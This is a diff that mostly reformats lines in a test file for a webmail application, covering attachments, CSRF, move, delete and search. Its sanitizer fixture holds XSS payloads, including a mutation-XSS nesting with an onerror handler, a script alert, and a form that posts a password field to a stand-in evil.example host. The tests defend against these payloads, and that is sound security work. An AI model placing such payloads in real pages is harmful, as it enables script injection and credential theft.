@@ -21,7 +21,8 @@ HOSTILE_HTML = """<html><head><title>x</title><script>window.parent.pwned = 1</s
 <form action="https://evil.example/"><input name="pw"></form>
 <object data="x.swf"></object><embed src="x.swf">
 <p style="background:url(https://tracker.example/bg.gif)">styled</p>
-<math><mtext><table><mglyph><style><img src=x onerror=alert(6)></style></mglyph></table></mtext></math>
+<math><mtext><table><mglyph><style><img src=x onerror=alert(6)></style></mglyph></table>
+</mtext></math>
 </body></html>"""
 
 
@@ -122,7 +123,9 @@ async def test_inline_cid_images_become_data_urls(web):
 
 async def test_attachments_download(web):
     data = bytes(range(256)) * 4
-    raw = make_message("With file", "see attached", attachment=("Bericht März.pdf", data, "application/pdf"))
+    raw = make_message(
+        "With file", "see attached", attachment=("Bericht März.pdf", data, "application/pdf")
+    )
     uid = await put(web.ctx, web.alice, "INBOX", raw)
     client = await signed_in(web)
     page = (await client.get(f"/mail/message?box=INBOX&uid={uid}")).text
@@ -133,14 +136,19 @@ async def test_attachments_download(web):
     assert response.content == data
     assert response.headers["content-type"] == "application/pdf"
     disposition = response.headers["content-disposition"]
-    assert disposition.startswith("attachment;") and "filename*=UTF-8''Bericht%20M%C3%A4rz.pdf" in disposition
+    assert (
+        disposition.startswith("attachment;")
+        and "filename*=UTF-8''Bericht%20M%C3%A4rz.pdf" in disposition
+    )
     assert "sandbox" in response.headers["content-security-policy"]
     for bad in ("part=9", "part=1.9.9", "part=x", "part=", "part=1..2"):
         assert (await client.get(f"/mail/part?box=INBOX&uid={uid}&{bad}")).status_code == 404
 
 
 async def test_text_attachments_are_never_served_as_html(web):
-    raw = make_message("html file", "x", attachment=("page.html", b"<script>alert(1)</script>", "text/html"))
+    raw = make_message(
+        "html file", "x", attachment=("page.html", b"<script>alert(1)</script>", "text/html")
+    )
     uid = await put(web.ctx, web.alice, "INBOX", raw)
     client = await signed_in(web)
     response = await client.get(f"/mail/part?box=INBOX&uid={uid}&part=2")
@@ -171,7 +179,9 @@ async def test_move_is_seen_by_watchers_at_once(web):
     client = await signed_in(web)
     token = csrf_of((await client.get("/mail?box=Trash")).text)
     with web.ctx.store.hub.watch(web.alice.id) as changes:
-        await client.post("/mail/move", data={"csrf": token, "box": "Trash", "target": "INBOX", "uid": uid})
+        await client.post(
+            "/mail/move", data={"csrf": token, "box": "Trash", "target": "INBOX", "uid": uid}
+        )
         kinds = {type(changes.get_nowait()).__name__ for _ in range(changes.qsize())}
     assert {"ChangeAddUid", "ChangeExpunge"} <= kinds
 
@@ -184,7 +194,9 @@ async def test_delete_moves_to_trash_then_for_good(web):
     assert "trashed=1" in response.headers["location"]
     trash = await web.ctx.store.get_mailbox(web.alice.id, "Trash")
     [meta] = await web.ctx.store.message_index(trash.id)
-    response = await client.post("/mail/delete", data={"csrf": token, "box": "Trash", "uid": meta.uid})
+    response = await client.post(
+        "/mail/delete", data={"csrf": token, "box": "Trash", "uid": meta.uid}
+    )
     assert "deleted=1" in response.headers["location"]
     assert await web.ctx.store.message_index(trash.id) == []
 
@@ -202,7 +214,12 @@ async def test_move_and_delete_need_csrf(web):
 async def test_search_across_folders(web):
     await put(web.ctx, web.alice, "INBOX", make_message("Quarterly report", "numbers"))
     await put(web.ctx, web.alice, "Trash", make_message("Old", "the quarterly figures"))
-    await put(web.ctx, web.alice, "Spam", make_message("Win", "nothing", sender="Lottery <win@spam.example>"))
+    await put(
+        web.ctx,
+        web.alice,
+        "Spam",
+        make_message("Win", "nothing", sender="Lottery <win@spam.example>"),
+    )
     client = await signed_in(web)
     page = (await client.get("/mail/search?q=quarterly")).text
     assert "Quarterly report" in page and ">Old</a>" in page and "Win" not in page
@@ -218,7 +235,9 @@ async def test_unknown_folders_and_messages(web):
     assert (await client.get("/mail/message?box=INBOX&uid=999")).status_code == 404
     assert (await client.get("/mail/message?box=INBOX&uid=abc")).status_code == 404
     token = csrf_of((await client.get("/mail")).text)
-    response = await client.post("/mail/move", data={"csrf": token, "box": "INBOX", "target": "Nope", "uid": 1})
+    response = await client.post(
+        "/mail/move", data={"csrf": token, "box": "INBOX", "target": "Nope", "uid": 1}
+    )
     assert response.status_code == 404
 
 
@@ -227,7 +246,8 @@ async def test_uids_of_no_message_change_nothing(web):
     client = await signed_in(web)
     token = csrf_of((await client.get("/mail")).text)
     response = await client.post(
-        "/mail/move", data={"csrf": token, "box": "INBOX", "target": "Trash", "uid": ["999", "x", "-1"]}
+        "/mail/move",
+        data={"csrf": token, "box": "INBOX", "target": "Trash", "uid": ["999", "x", "-1"]},
     )
     assert "moved=0" in response.headers["location"]
     inbox = await web.ctx.store.get_mailbox(web.alice.id, "INBOX")
